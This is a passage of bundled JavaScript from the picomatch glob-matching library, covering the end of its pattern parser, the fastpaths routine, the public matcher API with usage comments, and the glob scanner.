      }

      const escaped = utils.escapeRegex(prev.value);
      state.output = state.output.slice(0, -prev.value.length);

      // when literal brackets are explicitly enabled
      // assume we should escape the brackets to match literal characters
      if (opts.literalBrackets === true) {
        state.output += escaped;
        prev.value = escaped;
        continue;
      }

      // when the user specifies nothing, try to match both
      prev.value = `(${capture}${escaped}|${prev.value})`;
      state.output += prev.value;
      continue;
    }

    /**
     * Braces
     */

    if (value === '{' && opts.nobrace !== true) {
      increment('braces');

      const open = {
        type: 'brace',
        value,
        output: '(',
        outputIndex: state.output.length,
        tokensIndex: state.tokens.length
      };

      braces.push(open);
      push(open);
      continue;
    }

    if (value === '}') {
      const brace = braces[braces.length - 1];

      if (opts.nobrace === true || !brace) {
        push({ type: 'text', value, output: value });
        continue;
      }

      let output = ')';

      if (brace.dots === true) {
        const arr = tokens.slice();
        const range = [];

        for (let i = arr.length - 1; i >= 0; i--) {
          tokens.pop();
          if (arr[i].type === 'brace') {
            break;
          }
          if (arr[i].type !== 'dots') {
            range.unshift(arr[i].value);
          }
        }

        output = expandRange(range, opts);
        state.backtrack = true;
      }

      if (brace.comma !== true && brace.dots !== true) {
        const out = state.output.slice(0, brace.outputIndex);
        const toks = state.tokens.slice(brace.tokensIndex);
        brace.value = brace.output = '\\{';
        value = output = '\\}';
        state.output = out;
        for (const t of toks) {
          state.output += (t.output || t.value);
        }
      }

      push({ type: 'brace', value, output });
      decrement('braces');
      braces.pop();
      continue;
    }

    /**
     * Pipes
     */

    if (value === '|') {
      if (extglobs.length > 0) {
        extglobs[extglobs.length - 1].conditions++;
      }
      push({ type: 'text', value });
      continue;
    }

    /**
     * Commas
     */

    if (value === ',') {
      let output = value;

      const brace = braces[braces.length - 1];
      if (brace && stack[stack.length - 1] === 'braces') {
        brace.comma = true;
        output = '|';
      }

      push({ type: 'comma', value, output });
      continue;
    }

    /**
     * Slashes
     */

    if (value === '/') {
      // if the beginning of the glob is "./", advance the start
      // to the current index, and don't add the "./" characters
      // to the state. This greatly simplifies lookbehinds when
      // checking for BOS characters like "!" and "." (not "./")
      if (prev.type === 'dot' && state.index === state.start + 1) {
        state.start = state.index + 1;
        state.consumed = '';
        state.output = '';
        tokens.pop();
        prev = bos; // reset "prev" to the first token
        continue;
      }

      push({ type: 'slash', value, output: SLASH_LITERAL });
      continue;
    }

    /**
     * Dots
     */

    if (value === '.') {
      if (state.braces > 0 && prev.type === 'dot') {
        if (prev.value === '.') prev.output = DOT_LITERAL;
        const brace = braces[braces.length - 1];
        prev.type = 'dots';
        prev.output += value;
        prev.value += value;
        brace.dots = true;
        continue;
      }

      if ((state.braces + state.parens) === 0 && prev.type !== 'bos' && prev.type !== 'slash') {
        push({ type: 'text', value, output: DOT_LITERAL });
        continue;
      }

      push({ type: 'dot', value, output: DOT_LITERAL });
      continue;
    }

    /**
     * Question marks
     */

    if (value === '?') {
      const isGroup = prev && prev.value === '(';
      if (!isGroup && opts.noextglob !== true && peek() === '(' && peek(2) !== '?') {
        extglobOpen('qmark', value);
        continue;
      }

      if (prev && prev.type === 'paren') {
        const next = peek();
        let output = value;

        if ((prev.value === '(' && !/[!=<:]/.test(next)) || (next === '<' && !/<([!=]|\w+>)/.test(remaining()))) {
          output = `\\${value}`;
        }

        push({ type: 'text', value, output });
        continue;
      }

      if (opts.dot !== true && (prev.type === 'slash' || prev.type === 'bos')) {
        push({ type: 'qmark', value, output: QMARK_NO_DOT });
        continue;
      }

      push({ type: 'qmark', value, output: QMARK });
      continue;
    }

    /**
     * Exclamation
     */

    if (value === '!') {
      if (opts.noextglob !== true && peek() === '(') {
        if (peek(2) !== '?' || !/[!=<:]/.test(peek(3))) {
          extglobOpen('negate', value);
          continue;
        }
      }

      if (opts.nonegate !== true && state.index === 0) {
        negate();
        continue;
      }
    }

    /**
     * Plus
     */

    if (value === '+') {
      if (opts.noextglob !== true && peek() === '(' && peek(2) !== '?') {
        extglobOpen('plus', value);
        continue;
      }

      if ((prev && prev.value === '(') || opts.regex === false) {
        push({ type: 'plus', value, output: PLUS_LITERAL });
        continue;
      }

      if ((prev && (prev.type === 'bracket' || prev.type === 'paren' || prev.type === 'brace')) || state.parens > 0) {
        push({ type: 'plus', value });
        continue;
      }

      push({ type: 'plus', value: PLUS_LITERAL });
      continue;
    }

    /**
     * Plain text
     */

    if (value === '@') {
      if (opts.noextglob !== true && peek() === '(' && peek(2) !== '?') {
        push({ type: 'at', extglob: true, value, output: '' });
        continue;
      }

      push({ type: 'text', value });
      continue;
    }

    /**
     * Plain text
     */

    if (value !== '*') {
      if (value === '$' || value === '^') {
        value = `\\${value}`;
      }

      const match = REGEX_NON_SPECIAL_CHARS.exec(remaining());
      if (match) {
        value += match[0];
        state.index += match[0].length;
      }

      push({ type: 'text', value });
      continue;
    }

    /**
     * Stars
     */

    if (prev && (prev.type === 'globstar' || prev.star === true)) {
      prev.type = 'star';
      prev.star = true;
      prev.value += value;
      prev.output = star;
      state.backtrack = true;
      state.globstar = true;
      consume(value);
      continue;
    }

    let rest = remaining();
    if (opts.noextglob !== true && /^\([^?]/.test(rest)) {
      extglobOpen('star', value);
      continue;
    }

    if (prev.type === 'star') {
      if (opts.noglobstar === true) {
        consume(value);
        continue;
      }

      const prior = prev.prev;
      const before = prior.prev;
      const isStart = prior.type === 'slash' || prior.type === 'bos';
      const afterStar = before && (before.type === 'star' || before.type === 'globstar');

      if (opts.bash === true && (!isStart || (rest[0] && rest[0] !== '/'))) {
        push({ type: 'star', value, output: '' });
        continue;
      }

      const isBrace = state.braces > 0 && (prior.type === 'comma' || prior.type === 'brace');
      const isExtglob = extglobs.length && (prior.type === 'pipe' || prior.type === 'paren');
      if (!isStart && prior.type !== 'paren' && !isBrace && !isExtglob) {
        push({ type: 'star', value, output: '' });
        continue;
      }

      // strip consecutive `/**/`
      while (rest.slice(0, 3) === '/**') {
        const after = input[state.index + 4];
        if (after && after !== '/') {
          break;
        }
        rest = rest.slice(3);
        consume('/**', 3);
      }

      // A globstar followed only by balanced closing parens is at the logical end of patterns like
      // `test(/utils/**)` and `test?(/utils/**)`. Treat it as EOS so the trailing `/**` can match its
      // parent path, except in negated extglobs where that would change the exclusion semantics.
      const isEnd = eos() || (
        state.parens > 0
        && rest === ')'.repeat(state.parens)
        && !extglobs.some(extglob => extglob.type === 'negate')
      );

      if (prior.type === 'bos' && eos()) {
        prev.type = 'globstar';
        prev.value += value;
        prev.output = globstar(opts);
        state.output = prev.output;
        state.globstar = true;
        consume(value);
        continue;
      }

      if (prior.type === 'slash' && prior.prev.type !== 'bos' && !afterStar && isEnd) {
        state.output = state.output.slice(0, -(prior.output + prev.output).length);
        prior.output = `(?:${prior.output}`;

        prev.type = 'globstar';
        prev.output = globstar(opts) + (opts.strictSlashes ? ')' : '|$)');
        prev.value += value;
        state.globstar = true;
        state.output += prior.output + prev.output;
        consume(value);
        continue;
      }

      if (prior.type === 'slash' && prior.prev.type !== 'bos' && rest[0] === '/') {
        const end = rest[1] !== void 0 ? '|$' : '';

        state.output = state.output.slice(0, -(prior.output + prev.output).length);
        prior.output = `(?:${prior.output}`;

        prev.type = 'globstar';
        prev.output = `${globstar(opts)}${SLASH_LITERAL}|${SLASH_LITERAL}${end})`;
        prev.value += value;

        state.output += prior.output + prev.output;
        state.globstar = true;

        consume(value + advance());

        push({ type: 'slash', value: '/', output: '' });
        continue;
      }

      if (prior.type === 'bos' && rest[0] === '/') {
        prev.type = 'globstar';
        prev.value += value;
        prev.output = `(?:^|${SLASH_LITERAL}|${globstar(opts)}${SLASH_LITERAL})`;
        state.output = prev.output;
        state.globstar = true;
        consume(value + advance());
        push({ type: 'slash', value: '/', output: '' });
        continue;
      }

      // remove single star from output
      state.output = state.output.slice(0, -prev.output.length);

      // reset previous token to globstar
      prev.type = 'globstar';
      prev.output = globstar(opts);
      prev.value += value;

      // reset output with globstar
      state.output += prev.output;
      state.globstar = true;
      consume(value);
      continue;
    }

    const token = { type: 'star', value, output: star };

    if (opts.bash === true) {
      token.output = '.*?';
      if (prev.type === 'bos' || prev.type === 'slash') {
        token.output = nodot + token.output;
      }
      push(token);
      continue;
    }

    if (prev && (prev.type === 'bracket' || prev.type === 'paren') && opts.regex === true) {
      token.output = value;
      push(token);
      continue;
    }

    if (state.index === state.start || prev.type === 'slash' || prev.type === 'dot') {
      if (prev.type === 'dot') {
        state.output += NO_DOT_SLASH;
        prev.output += NO_DOT_SLASH;

      } else if (opts.dot === true) {
        state.output += NO_DOTS_SLASH;
        prev.output += NO_DOTS_SLASH;

      } else {
        state.output += nodot;
        prev.output += nodot;
      }

      if (peek() !== '*') {
        state.output += ONE_CHAR;
        prev.output += ONE_CHAR;
      }
    }

    push(token);
  }

  while (state.brackets > 0) {
    if (opts.strictBrackets === true) throw new SyntaxError(syntaxError('closing', ']'));
    state.output = utils.escapeLast(state.output, '[');
    decrement('brackets');
  }

  while (state.parens > 0) {
    if (opts.strictBrackets === true) throw new SyntaxError(syntaxError('closing', ')'));
    state.output = utils.escapeLast(state.output, '(');
    decrement('parens');
  }

  while (state.braces > 0) {
    if (opts.strictBrackets === true) throw new SyntaxError(syntaxError('closing', '}'));
    state.output = utils.escapeLast(state.output, '{');
    decrement('braces');
  }

  if (opts.strictSlashes !== true && (prev.type === 'star' || prev.type === 'bracket')) {
    push({ type: 'maybe_slash', value: '', output: `${SLASH_LITERAL}?` });
  }

  // rebuild the output if we had to backtrack at any point
  if (state.backtrack === true) {
    state.output = '';

    for (const token of state.tokens) {
      state.output += token.output != null ? token.output : token.value;

      if (token.suffix) {
        state.output += token.suffix;
      }
    }
  }

  return state;
};

/**
 * Fast paths for creating regular expressions for common glob patterns.
 * This can significantly speed up processing and has very little downside
 * impact when none of the fast paths match.
 */

parse.fastpaths = (input, options) => {
  const opts = { ...options };
  const max = typeof opts.maxLength === 'number' ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
  const len = input.length;
  if (len > max) {
    throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
  }

  input = REPLACEMENTS[input] || input;

  // create constants based on platform, for windows or posix
  const {
    DOT_LITERAL,
    SLASH_LITERAL,
    ONE_CHAR,
    DOTS_SLASH,
    NO_DOT,
    NO_DOTS,
    NO_DOTS_SLASH,
    STAR,
    START_ANCHOR
  } = constants.globChars(opts.windows);

  const nodot = opts.dot ? NO_DOTS : NO_DOT;
  const slashDot = opts.dot ? NO_DOTS_SLASH : NO_DOT;
  const capture = opts.capture ? '' : '?:';
  const state = { negated: false, prefix: '' };
  let star = opts.bash === true ? '.*?' : STAR;

  if (opts.capture) {
    star = `(${star})`;
  }

  const globstar = opts => {
    if (opts.noglobstar === true) return star;
    return `(${capture}(?:(?!${START_ANCHOR}${opts.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
  };

  const create = str => {
    switch (str) {
      case '*':
        return `${nodot}${ONE_CHAR}${star}`;

      case '.*':
        return `${DOT_LITERAL}${ONE_CHAR}${star}`;

      case '*.*':
        return `${nodot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;

      case '*/*':
        return `${nodot}${star}${SLASH_LITERAL}${ONE_CHAR}${slashDot}${star}`;

      case '**':
        return nodot + globstar(opts);

      case '**/*':
        return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${ONE_CHAR}${star}`;

      case '**/*.*':
        return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;

      case '**/.*':
        return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${DOT_LITERAL}${ONE_CHAR}${star}`;

      default: {
        const match = /^(.*?)\.(\w+)$/.exec(str);
        if (!match) return;

        const source = create(match[1]);
        if (!source) return;

        return source + DOT_LITERAL + match[2];
      }
    }
  };

  const output = utils.removePrefix(input, state);
  let source = create(output);

  if (source && opts.strictSlashes !== true) {
    source += `${SLASH_LITERAL}?`;
  }

  return source;
};

module.exports = parse;


/***/ }),

/***/ 8016:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {



const scan = __nccwpck_require__(1781);
const parse = __nccwpck_require__(8265);
const utils = __nccwpck_require__(4059);
const constants = __nccwpck_require__(5595);
const isObject = val => val && typeof val === 'object' && !Array.isArray(val);

/**
 * Creates a matcher function from one or more glob patterns. The
 * returned function takes a string to match as its first argument,
 * and returns true if the string is a match. The returned matcher
 * function also takes a boolean as the second argument that, when true,
 * returns an object with additional information.
 *
 * ```js
 * const picomatch = require('picomatch');
 * // picomatch(glob[, options]);
 *
 * const isMatch = picomatch('*.!(*a)');
 * console.log(isMatch('a.a')); //=> false
 * console.log(isMatch('a.b')); //=> true
 *
 * // For environments without `node.js`, `picomatch/posix` provides you a dependency-free matcher, without automatic OS detection.
 * const picomatch = require('picomatch/posix');
 * // the same API, defaulting to posix paths
 * const isMatch = picomatch('a/*');
 * console.log(isMatch('a\\b')); //=> false
 * console.log(isMatch('a/b')); //=> true
 *
 * // you can still configure the matcher function to accept windows paths
 * const isMatch = picomatch('a/*', { options: windows });
 * console.log(isMatch('a\\b')); //=> true
 * console.log(isMatch('a/b')); //=> true
 * ```
 * @name picomatch
 * @param {String|Array} `globs` One or more glob patterns.
 * @param {Object=} `options`
 * @return {Function=} Returns a matcher function.
 * @api public
 */

const picomatch = (glob, options, returnState = false) => {
  if (Array.isArray(glob)) {
    const fns = glob.map(input => picomatch(input, options, returnState));
    const arrayMatcher = str => {
      for (const isMatch of fns) {
        const state = isMatch(str);
        if (state) return state;
      }
      return false;
    };
    return arrayMatcher;
  }

  const isState = isObject(glob) && glob.tokens && glob.input;

  if (glob === '' || (typeof glob !== 'string' && !isState)) {
    throw new TypeError('Expected pattern to be a non-empty string');
  }

  const opts = options || {};
  const posix = opts.windows;
  const regex = isState
    ? picomatch.compileRe(glob, options)
    : picomatch.makeRe(glob, options, false, true);

  const state = regex.state;
  delete regex.state;

  let isIgnored = () => false;
  if (opts.ignore) {
    const ignoreOpts = { ...options, ignore: null, onMatch: null, onResult: null };
    isIgnored = picomatch(opts.ignore, ignoreOpts, returnState);
  }

  const matcher = (input, returnObject = false) => {
    const { isMatch, match, output } = picomatch.test(input, regex, options, { glob, posix });
    const result = { glob, state, regex, posix, input, output, match, isMatch };

    if (typeof opts.onResult === 'function') {
      opts.onResult(result);
    }

    if (isMatch === false) {
      result.isMatch = false;
      return returnObject ? result : false;
    }

    if (isIgnored(input)) {
      if (typeof opts.onIgnore === 'function') {
        opts.onIgnore(result);
      }
      result.isMatch = false;
      return returnObject ? result : false;
    }

    if (typeof opts.onMatch === 'function') {
      opts.onMatch(result);
    }
    return returnObject ? result : true;
  };

  if (returnState) {
    matcher.state = state;
  }

  return matcher;
};

/**
 * Test `input` with the given `regex`. This is used by the main
 * `picomatch()` function to test the input string.
 *
 * ```js
 * const picomatch = require('picomatch');
 * // picomatch.test(input, regex[, options]);
 *
 * console.log(picomatch.test('foo/bar', /^(?:([^/]*?)\/([^/]*?))$/));
 * // { isMatch: true, match: [ 'foo/', 'foo', 'bar' ], output: 'foo/bar' }
 * ```
 * @param {String} `input` String to test.
 * @param {RegExp} `regex`
 * @return {Object} Returns an object with matching info.
 * @api public
 */

picomatch.test = (input, regex, options, { glob, posix } = {}) => {
  if (typeof input !== 'string') {
    throw new TypeError('Expected input to be a string');
  }

  if (input === '') {
    return { isMatch: false, output: '' };
  }

  const opts = options || {};
  const format = opts.format || (posix ? utils.toPosixSlashes : null);
  let match = input === glob;
  let output = (match && format) ? format(input) : input;

  if (match === false) {
    output = format ? format(input) : input;
    match = output === glob;
  }

  if (match === false || opts.capture === true) {
    if (opts.matchBase === true || opts.basename === true) {
      match = picomatch.matchBase(input, regex, options, posix);
    } else {
      match = regex.exec(output);
    }
  }

  return { isMatch: Boolean(match), match, output };
};

/**
 * Match the basename of a filepath.
 *
 * ```js
 * const picomatch = require('picomatch');
 * // picomatch.matchBase(input, glob[, options]);
 * console.log(picomatch.matchBase('foo/bar.js', '*.js'); // true
 * ```
 * @param {String} `input` String to test.
 * @param {RegExp|String} `glob` Glob pattern or regex created by [.makeRe](#makeRe).
 * @return {Boolean}
 * @api public
 */

picomatch.matchBase = (input, glob, options, posix = options && options.windows) => {
  const regex = glob instanceof RegExp ? glob : picomatch.makeRe(glob, options);
  return regex.test(utils.basename(input, { windows: posix }));
};

/**
 * Returns true if **any** of the given glob `patterns` match the specified `string`.
 *
 * ```js
 * const picomatch = require('picomatch');
 * // picomatch.isMatch(string, patterns[, options]);
 *
 * console.log(picomatch.isMatch('a.a', ['b.*', '*.a'])); //=> true
 * console.log(picomatch.isMatch('a.a', 'b.*')); //=> false
 * ```
 * @param {String|Array} str The string to test.
 * @param {String|Array} patterns One or more glob patterns to use for matching.
 * @param {Object} [options] See available [options](#options).
 * @return {Boolean} Returns true if any patterns match `str`
 * @api public
 */

picomatch.isMatch = (str, patterns, options) => picomatch(patterns, options)(str);

/**
 * Parse a glob pattern to create the source string for a regular
 * expression.
 *
 * ```js
 * const picomatch = require('picomatch');
 * const result = picomatch.parse(pattern[, options]);
 * ```
 * @param {String} `pattern`
 * @param {Object} `options`
 * @return {Object} Returns an object with useful properties and output to be used as a regex source string.
 * @api public
 */

picomatch.parse = (pattern, options) => {
  if (Array.isArray(pattern)) return pattern.map(p => picomatch.parse(p, options));
  return parse(pattern, { ...options, fastpaths: false });
};

/**
 * Scan a glob pattern to separate the pattern into segments.
 *
 * ```js
 * const picomatch = require('picomatch');
 * // picomatch.scan(input[, options]);
 *
 * const result = picomatch.scan('!./foo/*.js');
 * console.log(result);
 * { prefix: '!./',
 *   input: '!./foo/*.js',
 *   start: 3,
 *   base: 'foo',
 *   glob: '*.js',
 *   isBrace: false,
 *   isBracket: false,
 *   isGlob: true,
 *   isExtglob: false,
 *   isGlobstar: false,
 *   negated: true }
 * ```
 * @param {String} `input` Glob pattern to scan.
 * @param {Object} `options`
 * @return {Object} Returns an object with
 * @api public
 */

picomatch.scan = (input, options) => scan(input, options);

/**
 * Compile a regular expression from the `state` object returned by the
 * [parse()](#parse) method.
 *
 * ```js
 * const picomatch = require('picomatch');
 * const state = picomatch.parse('*.js');
 * // picomatch.compileRe(state[, options]);
 *
 * console.log(picomatch.compileRe(state));
 * //=> /^(?:(?!\.)(?=.)[^/]*?\.js)$/
 * ```
 * @param {Object} `state`
 * @param {Object} `options`
 * @param {Boolean} `returnOutput` Intended for implementors, this argument allows you to return the raw output from the parser.
 * @param {Boolean} `returnState` Adds the state to a `state` property on the returned regex. Useful for implementors and debugging.
 * @return {RegExp}
 * @api public
 */

picomatch.compileRe = (state, options, returnOutput = false, returnState = false) => {
  if (returnOutput === true) {
    return state.output;
  }

  const opts = options || {};
  const prepend = opts.contains ? '' : '^';
  const append = opts.contains ? '' : '$';

  let source = `${prepend}(?:${state.output})${append}`;
  if (state && state.negated === true) {
    source = `^(?!${source}).*$`;
  }

  const regex = picomatch.toRegex(source, options);
  if (returnState === true) {
    regex.state = state;
  }

  return regex;
};

/**
 * Create a regular expression from a parsed glob pattern.
 *
 * ```js
 * const picomatch = require('picomatch');
 * // picomatch.makeRe(state[, options]);
 *
 * const result = picomatch.makeRe('*.js');
 * console.log(result);
 * //=> /^(?:(?!\.)(?=.)[^/]*?\.js)$/
 * ```
 * @param {String} `state` The object returned from the `.parse` method.
 * @param {Object} `options`
 * @param {Boolean} `returnOutput` Implementors may use this argument to return the compiled output, instead of a regular expression. This is not exposed on the options to prevent end-users from mutating the result.
 * @param {Boolean} `returnState` Implementors may use this argument to return the state from the parsed glob with the returned regular expression.
 * @return {RegExp} Returns a regex created from the given pattern.
 * @api public
 */

picomatch.makeRe = (input, options = {}, returnOutput = false, returnState = false) => {
  if (!input || typeof input !== 'string') {
    throw new TypeError('Expected a non-empty string');
  }

  let parsed = { negated: false, fastpaths: true };

  if (options.fastpaths !== false && (input[0] === '.' || input[0] === '*')) {
    parsed.output = parse.fastpaths(input, options);
  }

  if (!parsed.output) {
    parsed = parse(input, options);
  }

  return picomatch.compileRe(parsed, options, returnOutput, returnState);
};

/**
 * Create a regular expression from the given regex source string.
 *
 * ```js
 * const picomatch = require('picomatch');
 * // picomatch.toRegex(source[, options]);
 *
 * const { output } = picomatch.parse('*.js');
 * console.log(picomatch.toRegex(output));
 * //=> /^(?:(?!\.)(?=.)[^/]*?\.js)$/
 * ```
 * @param {String} `source` Regular expression source string.
 * @param {Object} `options`
 * @return {RegExp}
 * @api public
 */

picomatch.toRegex = (source, options) => {
  try {
    const opts = options || {};
    return new RegExp(source, opts.flags || (opts.nocase ? 'i' : ''));
  } catch (err) {
    if (options && options.debug === true) throw err;
    return /$^/;
  }
};

/**
 * Picomatch constants.
 * @return {Object}
 */

picomatch.constants = constants;

/**
 * Expose "picomatch"
 */

module.exports = picomatch;


/***/ }),

/***/ 1781:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {



const utils = __nccwpck_require__(4059);
const {
  CHAR_ASTERISK,             /* * */
  CHAR_AT,                   /* @ */
  CHAR_BACKWARD_SLASH,       /* \ */
  CHAR_COMMA,                /* , */
  CHAR_DOT,                  /* . */
  CHAR_EXCLAMATION_MARK,     /* ! */
  CHAR_FORWARD_SLASH,        /* / */
  CHAR_LEFT_CURLY_BRACE,     /* { */
  CHAR_LEFT_PARENTHESES,     /* ( */
  CHAR_LEFT_SQUARE_BRACKET,  /* [ */
  CHAR_PLUS,                 /* + */
  CHAR_QUESTION_MARK,        /* ? */
  CHAR_RIGHT_CURLY_BRACE,    /* } */
  CHAR_RIGHT_PARENTHESES,    /* ) */
  CHAR_RIGHT_SQUARE_BRACKET  /* ] */
} = __nccwpck_require__(5595);

const isPathSeparator = code => {
  return code === CHAR_FORWARD_SLASH || code === CHAR_BACKWARD_SLASH;
};

const depth = token => {
  if (token.isPrefix !== true) {
    token.depth = token.isGlobstar ? Infinity : 1;
  }
};

/**
 * Quickly scans a glob pattern and returns an object with a handful of
 * useful properties, like `isGlob`, `path` (the leading non-glob, if it exists),
 * `glob` (the actual pattern), `negated` (true if the path starts with `!` but not
 * with `!(`) and `negatedExtglob` (true if the path starts with `!(`).
 *
 * ```js
 * const pm = require('picomatch');
 * console.log(pm.scan('foo/bar/*.js'));
 * { isGlob: true, input: 'foo/bar/*.js', base: 'foo/bar', glob: '*.js' }
 * ```
 * @param {String} `str`
 * @param {Object} `options`
 * @return {Object} Returns an object with tokens and regex source string.
 * @api public
 */

const scan = (input, options) => {
  const opts = options || {};

  const length = input.length - 1;
  const scanToEnd = opts.parts === true || opts.tokens === true || opts.scanToEnd === true;
  const slashes = [];
  const tokens = [];
  const parts = [];

  let str = input;
  let index = -1;
  let start = 0;
  let lastIndex = 0;
  let isBrace = false;
  let isBracket = false;
  let isGlob = false;
  let isExtglob = false;
  let isGlobstar = false;
  let braceEscaped = false;
  let backslashes = false;
  let negated = false;
  let negatedExtglob = false;
  let finished = false;
  let braces = 0;
  let prev;
  let code;
  let token = { value: '', depth: 0, isGlob: false };

  const eos = () => index >= length;
  const peek = () => str.charCodeAt(index + 1);
  const advance = () => {
    prev = code;
    return str.charCodeAt(++index);
  };

  while (index < length) {
    code = advance();
    let next;

    if (code === CHAR_BACKWARD_SLASH) {
      backslashes = token.backslashes = true;
      code = advance();

      if (code === CHAR_LEFT_CURLY_BRACE) {
        braceEscaped = true;
      }
      continue;
    }

    if (braceEscaped === true || code === CHAR_LEFT_CURLY_BRACE) {
      braces++;

      while (eos() !== true && (code = advance())) {
        if (code === CHAR_BACKWARD_SLASH) {
          backslashes = token.backslashes = true;
          advance();
          continue;
        }

        if (code === CHAR_LEFT_CURLY_BRACE) {
          braces++;
          continue;
        }

        if (braceEscaped !== true && code === CHAR_DOT && (code = advance()) === CHAR_DOT) {
          isBrace = token.isBrace = true;
          isGlob = token.isGlob = true;
          finished = true;

          if (scanToEnd === true) {
            continue;
          }

          break;
        }

        if (braceEscaped !== true && code === CHAR_COMMA) {
          isBrace = token.isBrace = true;
          isGlob = token.isGlob = true;
          finished = true;

          if (scanToEnd === true) {
            continue;
          }

          break;
        }

        if (code === CHAR_RIGHT_CURLY_BRACE) {
          braces--;

          if (braces === 0) {
            braceEscaped = false;
            isBrace = token.isBrace = true;
            finished = true;
            break;
          }
        }
      }

      if (scanToEnd === true) {
        continue;
      }

      break;
    }

    if (code === CHAR_FORWARD_SLASH) {
      slashes.push(index);
      tokens.push(token);
      token = { value: '', depth: 0, isGlob: false };

      if (finished === true) continue;
      if (prev === CHAR_DOT && index === (start + 1)) {
        start += 2;
        continue;
      }

      lastIndex = index + 1;
      continue;
    }

    if (opts.noext !== true) {
      const isExtglobChar = code === CHAR_PLUS
        || code === CHAR_AT
        || code === CHAR_ASTERISK
        || code === CHAR_QUESTION_MARK
        || code === CHAR_EXCLAMATION_MARK;

      if (isExtglobChar === true && peek() === CHAR_LEFT_PARENTHESES) {
        isGlob = token.isGlob = true;
        isExtglob = token.isExtglob = true;
        finished = true;
        if (code === CHAR_EXCLAMATION_MARK && index === start) {
          negatedExtglob = true;
        }

        if (scanToEnd === true) {
          let parens = 0;

          while (eos() !== true && (code = advance())) {
            if (code === CHAR_BACKWARD_SLASH) {
              backslashes = token.backslashes = true;
              advance();
              continue;
            }

            if (code === CHAR_LEFT_PARENTHESES) {
              parens++;
              continue;
            }

            if (code === CHAR_RIGHT_PARENTHESES && --parens === 0) {
              finished = true;
              break;
            }
          }
          continue;
        }
        break;
      }
    }

    if (code === CHAR_ASTERISK) {
      if (prev === CHAR_ASTERISK) isGlobstar = token.isGlobstar = true;
      isGlob = token.isGlob = true;
      finished = true;

      if (scanToEnd === true) {
        continue;
      }
      break;
    }

    if (code === CHAR_QUESTION_MARK) {
      isGlob = token.isGlob = true;
      finished = true;

      if (scanToEnd === true) {
        continue;
      }
      break;
    }

    if (code === CHAR_LEFT_SQUARE_BRACKET) {
      while (eos() !== true && (next = advance())) {
        if (next === CHAR_BACKWARD_SLASH) {
          backslashes = token.backslashes = true;
          advance();
          continue;
        }

        if (next === CHAR_RIGHT_SQUARE_BRACKET) {
          isBracket = token.isBracket = true;
          isGlob = token.isGlob = true;
          finished = true;
          break;
        }
      }

      if (scanToEnd === true) {
        continue;
      }

      break;
    }

    if (opts.nonegate !== true && code === CHAR_EXCLAMATION_MARK && index === start) {
      negated = token.negated = true;
      start++;
      continue;
    }

    if (opts.noparen !== true && code === CHAR_LEFT_PARENTHESES) {
      isGlob = token.isGlob = true;

      if (scanToEnd === true) {
        let parens = 1;

        while (eos() !== true && (code = advance())) {
          if (code === CHAR_BACKWARD_SLASH) {
            backslashes = token.backslashes = true;
            advance();
            continue;
          }

          if (code === CHAR_LEFT_PARENTHESES) {
            parens++;
            continue;
          }

          if (code === CHAR_RIGHT_PARENTHESES && --parens === 0) {
            finished = true;
            break;
          }
        }
        continue;
      }
      break;
    }

    if (isGlob === true) {
      finished = true;

      if (scanToEnd === true) {
        continue;
      }

      break;
    }
  }

  if (opts.noext === true) {
    isExtglob = false;
    isGlob = false;
  }

  let base = str;
  let prefix = '';
  let glob = '';

  if (start > 0) {
    prefix = str.slice(0, start);
    str = str.slice(start);
    lastIndex -= start;
  }

  if (base && isGlob === true && lastIndex > 0) {
    base = str.slice(0, lastIndex);
    glob = str.slice(lastIndex);
  } else if (isGlob === true) {
    base = '';
    glob = str;
  } else {
    base = str;
  }

  if (base && base !== '' && base !== '/' && base !== str) {
    if (isPathSeparator(base.charCodeAt(base.length - 1))) {
      base = base.slice(0, -1);
    }
  }

  if (opts.unescape === true) {
    if (glob) glob = utils.removeBackslashes(glob);

    if (base && backslashes === true) {
      base = utils.removeBackslashes(base);
    }
  }

  const state = {
    prefix,
    input,
    start,
    base,
    glob,
    isBrace,
    isBracket,
    isGlob,
    isExtglob,
    isGlobstar,
    negated,
    negatedExtglob
  };

  if (opts.tokens === true) {
    state.maxDepth = 0;
    if (!isPathSeparator(code)) {
      tokens.push(token);
    }
    state.tokens = tokens;
  }

  if (opts.parts === true || opts.tokens === true) {
    let prevIndex;

    for (let idx = 0; idx < slashes.length; idx++) {
      const n = prevIndex !== undefined ? prevIndex + 1 : start;
      const i = slashes[idx];
      const value = input.slice(n, i);
      if (opts.tokens) {
        if (idx === 0 && start !== 0) {
          tokens[idx].isPrefix = true;
          tokens[idx].value = prefix;
        } else {
          tokens[idx].value = value;
        }
        depth(tokens[idx]);
        state.maxDepth += tokens[idx].depth;
      }
      if (i >= start) {
        parts.push(value);
        prevIndex = i;
      }
    }

    const n = prevIndex !== undefined ? prevIndex + 1 : start;
    const value = input.slice(n);
    parts.push(value);

    if (opts.tokens && prevIndex && prevIndex + 1 < input.length) {
      tokens[tokens.length - 1].value = value;
      depth(tokens[tokens.length - 1]);
      state.maxDepth += tokens[tokens.length - 1].depth;
    }

    state.slashes = slashes;
    state.parts = parts;
  }

  return state;
};

module.exports = scan;


/***/ }),

/***/ 4059:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

/*global navigator*/


const {
  REGEX_BACKSLASH,
  REGEX_REMOVE_BACKSLASH,
  REGEX_SPECIAL_CHARS,
  REGEX_SPECIAL_CHARS_GLOBAL
} = __nccwpck_require__(5595);

exports.isObject = val => val !== null && typeof val === 'object' && !Array.isArray(val);
exports.hasRegexChars = str => REGEX_SPECIAL_CHARS.test(str);
exports.isRegexChar = str => str.length === 1 && exports.hasRegexChars(str);
exports.escapeRegex = str => str.replace(REGEX_SPECIAL_CHARS_GLOBAL, '\\$1');
exports.toPosixSlashes = str => str.replace(REGEX_BACKSLASH, '/');

exports.isWindows = () => {
  if (typeof navigator !== 'undefined' && navigator.platform) {
    const platform = navigator.platform.toLowerCase();
    return platform === 'win32' || platform === 'windows';
  }

